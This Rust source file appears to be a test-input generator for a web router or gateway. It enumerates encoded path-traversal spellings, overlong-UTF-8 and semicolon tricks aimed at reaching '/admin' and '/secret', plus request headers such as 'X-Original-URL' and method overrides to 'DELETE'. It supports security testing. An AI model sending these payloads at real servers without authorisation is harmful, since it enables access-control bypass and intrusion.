//! Hostile spellings of a path: ways from one route to another one's paths.

/// Separators: each is `/` to some server.
const SEPARATORS: &[&str] =
    &["/", "//", "/./", "/;/", "/%20/", "%2f", "%2F", "%5c", "\\", "%252f", "%25%32%66", "%c0%af"];

/// Names: each is `..` or nothing to some server.
const NAMES: &[&str] = &[
    "..",
    "%2e%2e",
    ".%2E",
    "%2e.",
    "..;",
    "..;jsessionid=1",
    "..%3b",
    "..%3Bx/..",
    "%252e%252e",
    "%25%32%65.",
    "..%20",
    "..%09",
    "..%00",
    "..%3f",
    "..%23",
    "..#",
    "%c0%ae%c0%ae",
    "%e0%80%ae.",
    "%uff0e%uff0e",
    "..",
    "...",
    ".",
    "xx",
    ";",
    ";a=..",
    "%20",
    "%2e%2e%2f..",
];

/// With `IN` for a path that the route takes.
const WHOLE: &[&str] = &[
    "//admin/x",
    "///admin/x",
    "/%2fadmin/x",
    "/%5cadmin/x",
    "/admin%2fx",
    "/admin%5cx",
    "/admin%252fx",
    "/admin;jsessionid=1/x",
    "/;jsessionid=1/admin/x",
    "/admin%3bx/x",
    "/admin%3fx",
    "/admin%23x",
    "/admin%00/x",
    "/admin./x",
    "/admin%20/x",
    "/admin%09/x",
    "/%61dmin/x",
    "/%2561dmin/x",
    "/ADMIN/x",
    "/./admin/x",
    "/.//admin/x",
    "/%2e/admin/x",
    "/%2e%2f/admin/x",
    "/\u{ff0f}admin/x",
    "/secret",
    "/secret;",
    "/secret;x",
    "/secret%3f",
    "/secret%20",
    "/secret.",
    "/secret%2f",
    "//secret",
    "/x/..%2fsecret",
    "http://a//admin/x",
    "http://a/IN/../admin/x",
    "http://aIN/..%2fadmin/x",
    "http://a?/../admin",
    "http://a",
    "*",
    "**",
    "admin/x",
    "IN?/../admin/x",
    "IN#/../admin/x",
    "IN%3f/../admin/x",
    "IN;/../admin/x",
    "IN;x=%2f..%2f..%2fadmin/x",
    "IN/a;b;c/d",
    "IN/a%2fb",
    "IN/a%20b.",
    "IN/%e4%bd%a0",
];

/// Every spelling, for a route that takes `entry`, a path without a slash at its end.
pub fn spellings(entry: &str) -> Vec<String> {
    let mut all: Vec<String> = WHOLE.iter().map(|text| text.replace("IN", entry)).collect();
    for separator in SEPARATORS {
        for name in NAMES {
            for other in [separator, &"/"] {
                all.push(format!("{entry}{separator}{name}{other}admin{other}x"));
                all.push(format!("{entry}/{name}{separator}admin/x"));
                all.push(format!("{entry}{other}a{separator}{name}{separator}{name}{other}secret"));
            }
        }
    }
    all.sort();
    all.dedup();
    all
}

/// Fields by which clients try to steer what is behind a gateway.
pub const TRICKS: &[(&str, &str)] = &[
    ("X-Original-URL", "/admin/x"),
    ("X-Rewrite-URL", "/admin/x"),
    ("X-Original-URI", "/admin/x"),
    ("X-HTTP-Method-Override", "DELETE"),
    ("X-Method-Override", "DELETE"),
    ("X-Forwarded-Prefix", "/admin"),
    ("X-Forwarded-Path", "/admin/x"),
    ("X-Forwarded-Host", "admin"),
    ("X_Forwarded_Prefix", "/admin"),
    ("X_Forwarded_Host", "admin"),
    ("X_Original_URL", "/admin/x"),
    ("Forwarded", "host=admin"),
    ("X-Host", "admin"),
    ("Base-Url", "/admin/x"),
    ("Destination", "/admin/x"),
    ("Connection", "Host"),
];
